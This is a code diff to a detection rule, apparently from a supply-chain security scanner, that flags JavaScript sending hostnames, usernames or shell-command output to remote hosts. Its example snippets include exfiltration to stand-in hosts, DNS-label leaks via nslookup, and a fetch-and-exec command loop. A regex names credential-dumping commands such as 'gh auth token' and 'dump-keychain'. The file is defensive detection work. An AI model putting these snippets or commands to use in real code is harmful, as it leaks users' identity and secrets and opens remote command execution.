@@ -1,6 +1,6 @@
-import { defineRule, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
-import type { AnyNode } from '../src/types.js';
-import { IDENTIFYING_FACTS } from '../src/vocabulary/apis.js';
+import { defineRule, fixedTargetOf, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
+import type { AnyNode, Call, FileContext } from '../src/types.js';
+import { IDENTIFYING_FACTS, isServed } from '../src/vocabulary/apis.js';
 
 export default defineRule({
   meta: {
@@ -11,15 +11,34 @@ export default defineRule({
       fingerprint: 'Sends {facts} through {sink}',
       pair: 'Sends {facts} through {sink}',
       odd: 'Sends the {facts} to {address}',
+      named: 'Asks for a name on another machine with the {facts} in it, through {sink}',
+      single: 'Sends the {facts} to an address fixed in its code, through {sink}',
+      obeys: 'Sends what a command it was told prints, through {sink}',
       output: 'Sends what a shell command prints ({command}) through {sink}',
     },
-    bits: { fingerprint: 11, pair: 8, output: 10, odd: 9 },
+    bits: { fingerprint: 11.5, pair: 8, output: 10, odd: 9, named: 9, single: 4, obeys: 8 },
   },
   examples: {
     flags: [
       {
         title: 'host, user and folder are posted',
         code: `const os = require('os'), https = require('https');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });\nconst req = https.request({ hostname: 'collect.invalid', method: 'POST' });\nreq.write(data);\nreq.end();`,
+      },
+      {
+        title: 'one of them leaves as a label of one, from the shell',
+        code: `const os = require('os');\nrequire('child_process').exec('nslookup ' + os.hostname() + '.collect.invalid');`,
+      },
+      {
+        title: 'what a command prints that was fetched is sent back',
+        code: `const { exec } = require('child_process');\nfetch('https://orders.invalid').then(r => r.text()).then(order => exec(order, (error, out) => fetch('https://orders.invalid', { method: 'POST', body: out })));`,
+      },
+      {
+        title: 'the host and the address that a service says it has',
+        code: `const os = require('os');\nfetch('https://ip.invalid').then(r => r.text()).then(ip => fetch('https://collect.invalid', { method: 'POST', body: ip + os.hostname() }));`,
+      },
+      {
+        title: 'who uses the machine is sent to a fixed address',
+        code: `fetch('https://collect.invalid/?who=' + require('os').userInfo().username);`,
       },
       {
         title: 'they leave as labels of a DNS question',
@@ -34,6 +53,14 @@ export default defineRule({
       {
         title: 'the platform chooses a download',
         code: `const os = require('os');\nfetch('https://download.invalid/tool-' + os.platform() + '-' + os.arch() + '.tar.gz');`,
+      },
+      {
+        title: 'the machine asks for its own name',
+        code: `const dns = require('dns'), os = require('os');\ndns.lookup(os.hostname(), (error, address) => console.log(address));`,
+      },
+      {
+        title: 'a host says its name to a server that is configured',
+        code: `fetch(process.env.COLLECTOR_URL, { method: 'POST', body: require('os').hostname() });`,
       },
       {
         title: 'a client says which version it is',
@@ -52,6 +79,8 @@ export default defineRule({
       const identifying = facts.filter(
         ({ detail }, at) => IDENTIFYING_FACTS.has(detail) && facts.findIndex(other => other.detail === detail) === at,
       );
+      // An address of its own that a service answered, sent on with one fact, makes two.
+      const asked = labels.some(({ kind, detail }) => kind === 'remote' && !isServed(detail));
       if (identifying.length >= 2) {
         const [first, ...others] = identifying as [(typeof facts)[number], ...typeof facts];
         context.report({
@@ -65,20 +94,41 @@ export default defineRule({
         });
       } else if (identifying[0]) {
         const address = oddTargetOf(context, call);
-        if (address)
+        const messageId = address
+          ? 'odd'
+          : asksName(context, call)
+            ? 'named'
+            : asked && TELLING.has(identifying[0].detail)
+              ? 'pair'
+              : fixedTargetOf(context, call) !== undefined && TELLING.has(identifying[0].detail)
+                ? 'single'
+                : undefined;
+        if (messageId)
           context.report({
-            messageId: 'odd',
-            data: { facts: identifying[0].detail, address },
+            messageId,
+            data: { facts: identifying[0].detail, address: address ?? '', sink: call.name },
             chain: [...stepsOf(identifying[0]), step('sink', sinkSays(call), context.file, call.node)],
           });
       }
       const printed = labels.find(({ kind }) => kind === 'command-output');
       if (!printed || call.name.startsWith('child_process.')) continue;
       const command = (printed.origin.node as { arguments?: AnyNode[] }).arguments?.[0];
+      if (
+        command &&
+        printed.origin.file === context.file &&
+        context.labelsOf(command).some(({ kind }) => kind === 'remote')
+      ) {
+        context.report({
+          messageId: 'obeys',
+          data: { sink: call.name },
+          chain: [...stepsOf(printed), step('sink', sinkSays(call), context.file, call.node)],
+        });
+        continue;
+      }
       const texts = command && printed.origin.file === context.file ? context.textsOf(command) : [];
       if (
         !texts.some(text =>
-          /\b(?:hostname|whoami|id|uname|ip (?:a|addr)|ifconfig|ipconfig|env|printenv|cat|ls|pwd|ps|systeminfo|tasklist|net user)\b/.test(
+          /\b(?:hostname|whoami|id|uname|ip (?:a|addr)|ifconfig|ipconfig|env|printenv|cat|ls|pwd|ps|systeminfo|tasklist|net user|gh auth token|npm config|git config|npm whoami|find-generic-password|dump-keychain)\b/.test(
             text,
           ),
         )
@@ -92,3 +142,19 @@ export default defineRule({
     }
   },
 });
+
+/** Facts that say who, rather than where in a project. */
+const TELLING: ReadonlySet<string> = new Set(['host name', 'user name', 'home folder', 'network addresses']);
+
+/** A question for a name that has something filled in before a fixed domain: whoever answers it, learns it. */
+function asksName({ textsOf }: FileContext, { name, args }: Call): boolean {
+  const isQuestion = /^dns\b/.test(name);
+  return args
+    .slice(0, 1)
+    .flatMap(arg => textsOf(arg))
+    .some(text =>
+      isQuestion
+        ? /…\.?(?:[\w-]+\.)+[a-z]{2,}$/i.test(text)
+        : /\b(?:nslookup|dig|ping|host)\b.{0,200}…\.(?:[\w-]+\.)+[a-z]{2,}/i.test(text),
+    );
+}
